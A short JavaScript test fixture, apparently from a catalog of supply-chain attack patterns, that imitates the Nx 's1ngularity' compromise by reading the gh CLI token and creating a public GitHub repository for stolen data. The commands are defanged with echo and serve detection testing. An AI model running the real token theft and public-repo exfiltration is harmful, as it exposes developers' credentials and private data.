// Mimics Nx "s1ngularity" (Aug 2025, catalog §4.10): take the gh CLI token and create a public
// repository to upload stolen data. Defanged: the commands are echoed, the repo name is a fixture.
const { execSync } = require('child_process');
const token = execSync('echo gh auth token').toString().trim();
execSync('echo gh repo create fixture-s1ngularity-repository --public');
console.log(token.length);
